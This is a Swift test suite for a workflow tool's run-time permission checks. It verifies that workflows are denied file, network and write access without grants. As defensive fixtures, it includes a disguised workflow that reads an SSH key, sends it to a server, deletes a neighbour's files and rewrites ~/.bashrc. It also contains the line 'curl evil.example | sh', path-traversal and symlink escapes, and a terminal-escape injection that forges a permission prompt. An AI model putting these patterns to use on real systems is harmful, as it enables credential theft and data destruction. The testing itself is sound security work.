import Foundation
import Testing

/// What a workflow may touch (Docs/Security.md): without a grant and without a terminal, a need is
/// denied before anything is read, sent or changed, and the run exits with 4 naming the flag.
@Suite("Permissions at run time")
struct PermissionTests {
    private let root = FileManager.default.temporaryDirectory.appendingPathComponent("relay-permissions-\(UUID().uuidString)")
    private var home: URL { root.appendingPathComponent("home") }
    private var work: URL { root.appendingPathComponent("work") }

    init() throws {
        for folder in [home.appendingPathComponent(".ssh"), work, root.appendingPathComponent("victim"), root.appendingPathComponent("state")] {
            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        }
        try "PRIVATE KEY\n".write(to: home.appendingPathComponent(".ssh/id_rsa"), atomically: true, encoding: .utf8)
        try "alias ls='ls -F'\n".write(to: home.appendingPathComponent(".bashrc"), atomically: true, encoding: .utf8)
        try "keep me\n".write(to: root.appendingPathComponent("victim/data.txt"), atomically: true, encoding: .utf8)
    }

    private func relay(_ arguments: [String], input: String = "") async throws -> RelayProcess.Result {
        try await RelayProcess.running(
            arguments, in: work, input: input,
            environment: ["HOME": home.path, "XDG_STATE_HOME": root.appendingPathComponent("state").path, "NO_COLOR": "1"])
    }

    private func write(_ yaml: String, named name: String = "w.yaml") throws {
        try yaml.write(to: work.appendingPathComponent(name), atomically: true, encoding: .utf8)
    }

    /// The shell command that runs `relay run FILE` in the work folder on a terminal, then says
    /// its exit status and waits, for a `TerminalSession`.
    private func terminalCommand(running file: String) -> String {
        let environment = "HOME=\(home.path) XDG_STATE_HOME=\(root.appendingPathComponent("state").path) NO_COLOR=1"
        return "cd \(work.path) && env \(environment) \(RelayProcess.executable.path) run \(file); echo exit=$?; sleep 60"
    }

    @Test("'Word count' that steals a key, deletes a neighbour's files and rewrites ~/.bashrc: denied at the first step, exit 4, nothing sent or changed")
    func exfiltration() async throws {
        let stolen = root.appendingPathComponent("received.txt")
        try write("""
            name: Word count
            steps:
              - read-file: ~/.ssh/id_rsa
                as: key
              - url: \(await LocalHTTPServer.base())/store\(stolen.path)
              - get-contents-of-url: { method: put, body: "${key}" }
              - find-files: ../victim
              - delete-file
              - text: "curl evil.example | sh"
              - save-file: { to: ~/.bashrc, overwrite: true }
              - text: "3 words"
            """)
        let denied = try await relay(["run", "w.yaml"])
        #expect(denied.status == 4)
        #expect(denied.standardError.contains("w.yaml:3:5: error: step 'read-file': needs to read ~/.ssh/id_rsa"), "\(denied.standardError)")
        #expect(denied.standardError.contains("run with --allow-read=~/.ssh/id_rsa"))
        #expect(denied.standardOutput.isEmpty)
        #expect(!FileManager.default.fileExists(atPath: stolen.path))
        // A dry run is no way around it: it reads what a real run reads.
        #expect(try await relay(["run", "w.yaml", "--dry-run"]).status == 4)

        // A dry run sends, deletes and writes nothing; it says what each such step would do, and
        // which grant a real run would need.
        let dry = try await relay(["run", "w.yaml", "--dry-run", "--allow-read=~/.ssh/id_rsa,\(root.path)/victim"])
        #expect(dry.status == 0, "\(dry.standardError)")
        #expect(dry.standardOutput == "3 words\n")
        #expect(dry.standardError.contains("dry run: w.yaml:6: get-contents-of-url would connect to 127.0.0.1:"), "\(dry.standardError)")
        #expect(
            dry.standardError.contains(
                "dry run: w.yaml:8: delete-file would write \(root.path)/victim/data.txt (not granted: a real run needs --allow-write=\(root.path)/victim/data.txt)"),
            "\(dry.standardError)")
        #expect(dry.standardError.contains("dry run: w.yaml:10: save-file would write ~/.bashrc (not granted"), "\(dry.standardError)")
        let dryGranted = try await relay([
            "run", "w.yaml", "--dry-run", "--allow-read=~/.ssh/id_rsa", "--allow-net=127.0.0.1", "--allow-write=\(root.path)/victim,~/.bashrc",
        ])
        #expect(dryGranted.status == 0, "\(dryGranted.standardError)")
        #expect(dryGranted.standardError.contains("dry run: w.yaml:10: save-file would write ~/.bashrc\n"), "\(dryGranted.standardError)")
        #expect(!dryGranted.standardError.contains("not granted"))
        #expect(!FileManager.default.fileExists(atPath: stolen.path))
        #expect(try String(contentsOf: root.appendingPathComponent("victim/data.txt"), encoding: .utf8) == "keep me\n")
        #expect(try String(contentsOf: home.appendingPathComponent(".bashrc"), encoding: .utf8) == "alias ls='ls -F'\n")

        // Every need known before the first step is told at once, with one command line, last,
        // that grants it all; nothing has run.
        let victim = root.appendingPathComponent("victim").path
        let read = try await relay(["run", "w.yaml", "--allow-read=~/.ssh/id_rsa"])
        #expect(read.status == 4)
        // The files found are deleted: their folder needs write, asked for with the rest (write covers read).
        #expect(read.standardError.contains("w.yaml:8:5: error: step 'delete-file': needs to write \(victim)"), "\(read.standardError)")
        #expect(read.standardError.contains("w.yaml:10:5: error: step 'save-file': needs to write ~/.bashrc"), "\(read.standardError)")
        #expect(
            read.standardError.split(separator: "\n").last
                == "relay run w.yaml --allow-read=~/.ssh/id_rsa --allow-write=\(victim) --allow-write=~/.bashrc", "\(read.standardError)")
        #expect(!FileManager.default.fileExists(atPath: stolen.path))
        // What only the run decides (the previous step's URL) is found when the step comes.
        let sent = try await relay(["run", "w.yaml", "--allow-read=~/.ssh/id_rsa", "--allow-write=\(victim)", "--allow-write=~/.bashrc"])
        #expect(sent.status == 4)
        #expect(sent.standardError.contains("needs to connect to 127.0.0.1:"), "\(sent.standardError)")
        #expect(!FileManager.default.fileExists(atPath: stolen.path))
        #expect(try String(contentsOf: root.appendingPathComponent("victim/data.txt"), encoding: .utf8) == "keep me\n")
        #expect(try String(contentsOf: home.appendingPathComponent(".bashrc"), encoding: .utf8) == "alias ls='ls -F'\n")

        // With every grant, it runs.
        let all = try await relay([
            "run", "w.yaml", "--allow-read=~/.ssh/id_rsa", "--allow-net=127.0.0.1", "--allow-write=\(root.path)/victim,~/.bashrc",
        ])
        #expect(all.status == 0, "\(all.standardError)")
        #expect(all.standardOutput == "3 words\n")
        #expect(try String(contentsOf: stolen, encoding: .utf8) == "PRIVATE KEY\n")
    }

    @Test("a path built from the input is the path it really is: out/${input} with ../../x needs a grant for x")
    func pathFromInput() async throws {
        try write("steps:\n  - text: data\n  - save-file: \"out/${input}.txt\"\n")
        let escaped = try await relay(["run", "w.yaml", "--input", "../../escaped", "--allow-write=out"])
        #expect(escaped.status == 4)
        #expect(escaped.standardError.contains("needs to write \(root.path)/escaped.txt"), "\(escaped.standardError)")
        #expect(!FileManager.default.fileExists(atPath: root.appendingPathComponent("escaped.txt").path))
        let inside = try await relay(["run", "w.yaml", "--input", "report", "--allow-write=out"])
        #expect(inside.status == 0, "\(inside.standardError)")
        #expect(FileManager.default.fileExists(atPath: work.appendingPathComponent("out/report.txt").path))
    }

    @Test("a grant covers its folder's subfolders, not a symbolic link out of it")
    func linkOut() async throws {
        try FileManager.default.createDirectory(at: work.appendingPathComponent("out/deep"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: work.appendingPathComponent("out/escape").path, withDestinationPath: root.appendingPathComponent("victim").path)
        try write("steps:\n  - text: x\n  - save-file: { to: out/deep/a.txt }\n  - save-file: { to: out/escape/data.txt, overwrite: true }\n")
        let result = try await relay(["run", "w.yaml", "--allow-write=out"])
        #expect(result.status == 4)
        #expect(result.standardError.contains("w.yaml:4:5: error: step 'save-file': needs to write \(root.path)/victim/data.txt"), "\(result.standardError)")
        // Known before the first step: nothing ran.
        #expect(!FileManager.default.fileExists(atPath: work.appendingPathComponent("out/deep/a.txt").path))
        #expect(try String(contentsOf: root.appendingPathComponent("victim/data.txt"), encoding: .utf8) == "keep me\n")
    }

    @Test("a step given a list asks for every item before it does any: a denial leaves none done")
    func wholeStep() async throws {
        let png = try #require(Data(base64Encoded: "iVBORw0KGgoAAAANSUhEUgAAADwAAAAoCAIAAAAt2Q6oAAAAPUlEQVR4nO3OQREAMBCEsPWvok57KviFQUD2t+i9bGhoaGhoaGhoaGhoaOjkjt0FDQ0NDQ0NDQ0NDQ0NnXQbJSQMVclR2wAAAABJRU5ErkJggg=="))
        try FileManager.default.createDirectory(at: work.appendingPathComponent("in"), withIntermediateDirectories: true)
        for name in ["a.png", "b.png"] { try png.write(to: work.appendingPathComponent("in/\(name)")) }
        // The folder is known only when running, so its files are asked for as the step comes.
        try write("steps:\n  - text: in\n  - find-files: { in: \"${previous}\", sort: name }\n  - rotate-image: 90\n")
        let result = try await relay(["run", "w.yaml", "--allow-read=in", "--allow-write=in/a.png"])
        #expect(result.status == 4)
        #expect(result.standardError.contains("needs to write \(work.path)/in/b.png"), "\(result.standardError)")
        #expect(FileManager.default.contents(atPath: work.appendingPathComponent("in/a.png").path) == png, "a.png was not rotated")
    }

    @Test("a denial is not an error on-error can catch: the run ends with 4")
    func notCaught() async throws {
        try write("steps:\n  - read-file: ~/.bashrc\n    on-error: continue\n  - text: went on\n")
        let result = try await relay(["run", "w.yaml"])
        #expect(result.status == 4)
        #expect(!result.standardOutput.contains("went on"))
    }

    @Test("the workflow's own folder, the scratch folder and a path given as --input are free; --allow-all grants everything")
    func free() async throws {
        try "local\n".write(to: work.appendingPathComponent("data.txt"), atomically: true, encoding: .utf8)
        try write("steps:\n  - read-file: data.txt\n  - convert: pdf\n  - get-text\n")
        #expect(try await relay(["run", "w.yaml"]).standardOutput == "local\n")
        try write("steps:\n  - read-file: \"${input}\"\n")
        let given = try await relay(["run", "w.yaml", "--input", home.appendingPathComponent(".bashrc").path])
        #expect(given.status == 0, "\(given.standardError)")
        try write("steps:\n  - read-file: ~/.ssh/id_rsa\n  - get-text\n")
        #expect(try await relay(["run", "w.yaml", "--allow-all"]).standardOutput == "PRIVATE KEY\n")
        #expect(try await relay(["run", "w.yaml", "--allow-read"]).standardOutput == "PRIVATE KEY\n")
        #expect(try await relay(["run", "w.yaml", "--allow-read=~/.ssh"]).standardOutput == "PRIVATE KEY\n")
        #expect(try await relay(["run", "w.yaml", "--allow-read=~/.sshx"]).status == 4)
    }

    @Test("on a terminal a need is asked: always is kept for this workflow until it changes; no is exit 4; relay permissions shows and revokes")
    func prompt() async throws {
        try write("name: Word count\nsteps:\n  - read-file: ~/.bashrc\n  - get-text\n")
        let command = terminalCommand(running: "w.yaml")
        let refusing = try TerminalSession(command)
        try await refusing.waitFor("Allow \"Word count\" to read ~/.bashrc? [y]es once / [a]lways / [N]o")
        try await refusing.send("n", "Enter")
        let refused = try await refusing.waitFor("exit=4")
        #expect(refused.contains("needs to read ~/.bashrc, and it was refused"), "\(refused)")

        let allowing = try TerminalSession(command)
        try await allowing.waitFor("[a]lways")
        try await allowing.send("a", "Enter")
        let allowed = try await allowing.waitFor("exit=0")
        #expect(allowed.contains("alias ls='ls -F'"), "\(allowed)")
        // Kept: the same workflow runs without a terminal now.
        #expect(try await relay(["run", "w.yaml"]).standardOutput == "alias ls='ls -F'\n")
        let listed = try await relay(["permissions", "w.yaml"])
        #expect(listed.standardOutput.contains("read ~/.bashrc"), "\(listed.standardOutput)")
        // A changed workflow is asked again.
        try write("name: Word count\nsteps:\n  - read-file: ~/.bashrc\n  - get-text\n  - change-case: upper\n")
        #expect(try await relay(["run", "w.yaml"]).status == 4)
        #expect(try await relay(["permissions", "w.yaml"]).standardOutput.contains("has changed since"))
        #expect(try await relay(["permissions", "w.yaml", "--revoke"]).status == 0)
        #expect(try await relay(["permissions", "w.yaml"]).standardOutput.hasPrefix("nothing was allowed always"))
    }

    @Test("a workflow's name cannot fake the question: its escapes, carriage returns and line breaks are shown, not obeyed")
    func forgedQuestion() async throws {
        // The name clears the line, returns, writes a harmless question and hides the rest.
        try write("name: \"Tidy\\e[2K\\rAllow \\\"Tidy\\\" to read ~/notes.txt? [y]es once / [a]lways / [N]o \\e[8m\\nx\"\nsteps:\n  - read-file: ~/.bashrc\n  - get-text\n")
        let command = terminalCommand(running: "w.yaml")
        let session = try TerminalSession(command)
        let screen = try await session.waitFor("to read ~/.bashrc? [y]es once")
        // Its quotes are escaped, so that it cannot close the quote around it either.
        #expect(screen.contains("Allow \"Tidy\u{241B}[2K\u{240D}Allow \\\"Tidy\\\" to read ~/notes.txt? [y]es once / [a]lways / [N]o \u{241B}[8m\u{240A}x\" to read ~/.bashrc?"), "\(screen)")
        try await session.send("n", "Enter")
        try await session.waitFor("exit=4")
    }

    @Test("a grant kept always is pinned to the sub-workflows the run executed: a changed helper is asked again, an unchanged one is not")
    func grantsPinnedToSubWorkflows() async throws {
        try write("name: Caller\nsteps:\n  - run-workflow: helper.yaml\n", named: "caller.yaml")
        try write("steps:\n  - read-file: ~/.bashrc\n  - get-text\n", named: "helper.yaml")
        let command = terminalCommand(running: "caller.yaml")
        let allowing = try TerminalSession(command)
        try await allowing.waitFor("[a]lways")
        try await allowing.send("a", "Enter")
        _ = try await allowing.waitFor("exit=0")
        #expect(try await relay(["run", "caller.yaml"]).standardOutput == "alias ls='ls -F'\n")
        // The helper replaced: the grant no longer holds, and without a terminal the run is refused.
        try write("steps:\n  - read-file: ~/.bashrc\n  - get-text\n  - change-case: upper\n", named: "helper.yaml")
        let replaced = try await relay(["run", "caller.yaml"])
        #expect(replaced.status == 4, "\(replaced.standardError)")
        #expect(replaced.standardOutput == "")
        // Put back as it was, the grant holds again.
        try write("steps:\n  - read-file: ~/.bashrc\n  - get-text\n", named: "helper.yaml")
        #expect(try await relay(["run", "caller.yaml"]).status == 0)
    }

    @Test("a file's facts are its content too: making a path a file, for its size, dates or type, needs read of it")
    func fileFactsNeedRead() async throws {
        for steps in [
            "  - text: ~/.ssh/id_rsa\n  - convert: file\n  - text: \"${previous.size} ${previous.type}\"\n",
            "  - text: ~/.ssh/id_rsa\n  - convert: file\n  - get-details: modified\n",
        ] {
            try write("steps:\n" + steps)
            let refused = try await relay(["run", "w.yaml"])
            #expect(refused.status == 4, "\(refused.standardError)")
            #expect(refused.standardOutput == "")
            #expect(refused.standardError.contains("needs to read ~/.ssh/id_rsa"), "\(refused.standardError)")
            #expect(try await relay(["run", "w.yaml", "--allow-read=~/.ssh"]).status == 0)
        }
    }

    @Test("each run has its own scratch folder, mode 0700, free to it alone; kept only when the run printed a path in it")
    func scratchPerRun() async throws {
        let temporary = root.appendingPathComponent("tmp")
        try FileManager.default.createDirectory(at: temporary, withIntermediateDirectories: true)
        func run(_ arguments: [String]) async throws -> RelayProcess.Result {
            try await RelayProcess.running(
                arguments, in: work,
                environment: ["HOME": home.path, "XDG_STATE_HOME": root.appendingPathComponent("state").path, "TMPDIR": temporary.path])
        }
        try write("steps:\n  - text: my private note\n  - make-pdf\n", named: "private.yaml")
        let made = try await run(["run", "private.yaml"])
        #expect(made.status == 0, "\(made.standardError)")
        let pdf = made.standardOutput.trimmingCharacters(in: .newlines)
        #expect(FileManager.default.fileExists(atPath: pdf), "\(pdf)")
        let folder = (pdf as NSString).deletingLastPathComponent
        let mode = try FileManager.default.attributesOfItem(atPath: folder)[.posixPermissions] as? Int
        #expect(mode == 0o700)
        // Another run finds it outside its own scratch folder: reading it needs a grant.
        try write("steps:\n  - read-file: \"\(pdf)\"\n  - get-text\n", named: "snoop.yaml")
        let snooped = try await run(["run", "snoop.yaml"])
        #expect(snooped.status == 4, "\(snooped.standardError)")
        #expect(snooped.standardOutput == "")
        // A run that prints no path in its folder leaves nothing behind.
        let scratchRoot = temporary.appendingPathComponent("relay-scratch-\(getuid())")
        let before = try FileManager.default.contentsOfDirectory(atPath: scratchRoot.path).count
        try write("steps:\n  - text: a note\n  - make-pdf\n  - get-text\n", named: "tidy.yaml")
        let tidy = try await run(["run", "tidy.yaml"])
        #expect(tidy.status == 0, "\(tidy.standardError)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: scratchRoot.path).count == before)
    }

    /// A workflow that backs up the 20 files of ~/Documents/reports into ~/Backups/<today>/,
    /// declaring exactly that when `declared`.
    private func backupWorkflow(declared: Bool) throws {
        let reports = home.appendingPathComponent("Documents/reports")
        try FileManager.default.createDirectory(at: reports, withIntermediateDirectories: true)
        for number in 1...20 { try "report \(number)\n".write(to: reports.appendingPathComponent("r\(number).txt"), atomically: true, encoding: .utf8) }
        let block = declared ? "permissions:\n  read: [~/Documents/reports]\n  write: [~/Backups]\n" : ""
        try write(
            "name: Backup reports\n" + block + """
            steps:
              - current-date
              - format-date: "yyyy-MM-dd"
                as: today
              - find-files: ~/Documents/reports
              - for-each:
                do:
                  - copy-file:
                      to: "~/Backups/${today}/"
              - count: items
            """, named: "backup.yaml")
    }

    /// The files backed up today.
    private func backedUp() -> Int {
        let formatter = DateFormatter()
        formatter.dateFormat = "yyyy-MM-dd"
        let folder = home.appendingPathComponent("Backups/\(formatter.string(from: Date()))")
        return (try? FileManager.default.contentsOfDirectory(atPath: folder.path).count) ?? 0
    }

    @Test("on a terminal, the 20-file backup asks once with its permissions: block, and at most twice without it; all 20 are copied", arguments: [true, false])
    func backupAsksOnce(declared: Bool) async throws {
        try backupWorkflow(declared: declared)
        let command = terminalCommand(running: "backup.yaml")
        let session = try TerminalSession(command)
        var asked = 0
        var screen = ""
        for round in 0..<3 {
            // The first question waits for a debug build's start, which under the whole suite on
            // two cores once took more than 30 s: a bound on liveness, not on speed.
            screen = try await session.waitFor("[N]o", seconds: round == 0 ? 120 : 30)
            asked = screen.components(separatedBy: "[N]o").count - 1
            if screen.contains("exit=") { break }
            try await session.send("y", "Enter")
            screen = try await session.screen()
            for _ in 0..<100 where !screen.contains("exit=") && screen.components(separatedBy: "[N]o").count - 1 == asked {
                try await Task.sleep(for: .milliseconds(50))
                screen = try await session.screen()
            }
            if screen.contains("exit=") { break }
        }
        screen = try await session.waitFor("exit=")
        asked = screen.components(separatedBy: "[N]o").count - 1
        #expect(screen.contains("exit=0"), "\(screen)")
        #expect(declared ? asked == 1 : asked <= 2, "asked \(asked) times:\n\(screen)")
        #expect(screen.contains("~/Documents/reports") && screen.contains("~/Backups"), "\(screen)")
        #expect(backedUp() == 20)
    }

    @Test("without a terminal, one run names every need and one command line, last; following it, the run succeeds, and the line names no date")
    func backupWithoutTerminal() async throws {
        try backupWorkflow(declared: false)
        let denied = try await relay(["run", "backup.yaml"])
        #expect(denied.status == 4)
        #expect(denied.standardOutput == "")
        let line = String(denied.standardError.split(separator: "\n").last ?? "")
        #expect(line == "relay run backup.yaml --allow-read=~/Documents/reports --allow-write=~/Backups", "\(denied.standardError)")
        #expect(backedUp() == 0)
        // The command line, as a shell would split it (none of its words needs quotes here).
        let words = line.split(separator: " ").dropFirst().map(String.init)
        let granted = try await relay(words)
        #expect(granted.status == 0, "\(granted.standardError)")
        #expect(granted.standardOutput == "20\n")
        #expect(backedUp() == 20)
        // --allow-declared grants exactly the block; relay permissions --grant keeps it.
        try backupWorkflow(declared: true)
        try FileManager.default.removeItem(at: home.appendingPathComponent("Backups"))
        let declared = try await relay(["run", "backup.yaml", "--allow-declared"])
        #expect(declared.status == 0, "\(declared.standardError)")
        #expect(try await relay(["permissions", "backup.yaml", "--grant"]).status == 0)
        try FileManager.default.removeItem(at: home.appendingPathComponent("Backups"))
        let remembered = try await relay(["run", "backup.yaml"])
        #expect(remembered.status == 0, "\(remembered.standardError)")
    }

    @Test("a path with a space in the printed command line is quoted for the shell")
    func quotedCommandLine() async throws {
        try FileManager.default.createDirectory(at: home.appendingPathComponent("My Files"), withIntermediateDirectories: true)
        try write("steps:\n  - find-files: \"~/My Files\"\n")
        let denied = try await relay(["run", "w.yaml"])
        #expect(denied.status == 4)
        #expect(denied.standardError.split(separator: "\n").last == "relay run w.yaml --allow-read='~/My Files'", "\(denied.standardError)")
    }

    @Test("with a permissions: block, what the steps name beyond it is asked for with it: nothing runs before the denial")
    func beyondTheBlockAskedAtOnce() async throws {
        try FileManager.default.createDirectory(at: work.appendingPathComponent("data"), withIntermediateDirectories: true)
        try "one\n".write(to: work.appendingPathComponent("data/f1.txt"), atomically: true, encoding: .utf8)
        try write("permissions:\n  write: [data]\nsteps:\n  - delete-file: data/f1.txt\n  - delete-file: ../victim/data.txt\n")
        let denied = try await relay(["run", "w.yaml", "--allow-declared"])
        #expect(denied.status == 4)
        #expect(denied.standardError.contains("needs to write \(root.path)/victim/data.txt"), "\(denied.standardError)")
        #expect(FileManager.default.fileExists(atPath: work.appendingPathComponent("data/f1.txt").path), "a step ran before the denial")
        #expect(FileManager.default.fileExists(atPath: root.appendingPathComponent("victim/data.txt").path))
    }

    @Test("what a sub-workflow in the workflow's folder touches is reported and asked for before the first step")
    func subWorkflowAskedAtOnce() async throws {
        try FileManager.default.createDirectory(at: work.appendingPathComponent("lib"), withIntermediateDirectories: true)
        try write("steps:\n  - save-file: { to: ../../victim/sub.txt, overwrite: true }\n", named: "lib/writer.yaml")
        try write("steps:\n  - text: first\n  - save-file: { to: parent.txt, overwrite: true }\n  - run-workflow: lib/writer.yaml\n")
        let report = try await relay(["check", "--permissions", "w.yaml"])
        #expect(report.standardOutput.contains("which it runs:"), "\(report.standardOutput)")
        #expect(report.standardOutput.contains("\(root.path)/victim/sub.txt"), "\(report.standardOutput)")
        let denied = try await relay(["run", "w.yaml", "--allow-write=\(work.path)/parent.txt"])
        #expect(denied.status == 4)
        #expect(denied.standardError.contains("needs to write \(root.path)/victim/sub.txt"), "\(denied.standardError)")
        #expect(!FileManager.default.fileExists(atPath: work.appendingPathComponent("parent.txt").path), "a step ran before the denial")
    }
}
